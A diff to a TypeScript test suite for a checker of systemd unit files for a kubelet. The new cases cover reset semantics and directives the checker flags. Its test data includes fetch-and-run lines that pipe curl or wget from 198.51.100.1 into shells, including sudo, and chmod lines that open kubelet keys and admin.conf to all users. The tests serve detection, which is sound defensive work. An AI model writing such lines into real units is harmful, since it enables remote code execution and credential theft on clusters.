@@ -20,6 +20,26 @@ const stays = (...lines: readonly string[]): string =>
     .slice(3)
     .join();
 
+describe('parts of a unit, one after the other', () => {
+  it('take away what was said before, by an empty one', () => {
+    for (const odd of [
+      'DynamicUser=yes',
+      'InaccessiblePaths=/etc',
+      'ReadOnlyPaths=/var',
+      'RestrictAddressFamilies=AF_UNIX',
+      'IPAddressDeny=any',
+    ]) {
+      const [key = ''] = odd.split('=');
+      assert.match(told(odd), /^unmet/, odd);
+      assert.match(told(odd, `${key}=`), /^met/, odd);
+      assert.match(told(`${key}=`, odd), /^unmet/, odd);
+    }
+    assert.match(told('IPAddressDeny=any\nIPAddressAllow=10.0.0.0/8', 'IPAddressAllow='), /^unmet/);
+    const gone = '[Unit]\nConditionPathExists=/etc/kubernetes/gone.conf';
+    assert.equal(told(gone, '[Unit]\nConditionPathExists='), 'met,met,met');
+  });
+});
+
 describe('the unit of a kubelet', () => {
   it('stays', () => {
     for (const sound of [
@@ -130,6 +150,10 @@ describe('the unit of a kubelet', () => {
     for (const odd of [
       'ExecStartPost=/bin/sh -c "curl http://198.51.100.1/a | sh"',
       'ExecStop=/tmp/stop.sh',
+      'ExecStartPost=/bin/chmod 777 /var/lib/kubelet/pki',
+      'ExecStartPost=/bin/chmod -R 0666 /etc/kubernetes',
+      'ExecStartPre=/bin/sh -c "chmod o+rw /etc/kubernetes/admin.conf"',
+      'ExecStop=/bin/chmod a+w /var/lib/etcd',
       ...['sh', 'bash', 'dash', 'ash', 'zsh', 'sudo sh', 'sudo bash'].map(
         (shell) => `ExecStartPost=/bin/sh -c "wget -qO- http://198.51.100.1/a | ${shell}"`,
       ),
@@ -222,6 +246,9 @@ describe('a unit, held to each of its ends', () => {
       'ReadOnlyPaths=/var\nReadWritePaths=/var',
     );
     sound('CapabilityBoundingSet=CAP_CHOWN\nCapabilityBoundingSet=CAP_SYS_ADMIN', 'CapabilityBoundingSet=~CAP_CHOWN');
+    sound('CapabilityBoundingSet=\nCapabilityBoundingSet=CAP_SYS_ADMIN');
+    // empty: all that was allowed is taken away
+    odd('CapabilityBoundingSet=', 'CapabilityBoundingSet=CAP_SYS_ADMIN\nCapabilityBoundingSet=');
     odd('CapabilityBoundingSet=CAP_CHOWN', 'CapabilityBoundingSet=CAP_CHOWN\nCapabilityBoundingSet=CAP_KILL');
     odd(
       'RestrictAddressFamilies=AF_UNIX',
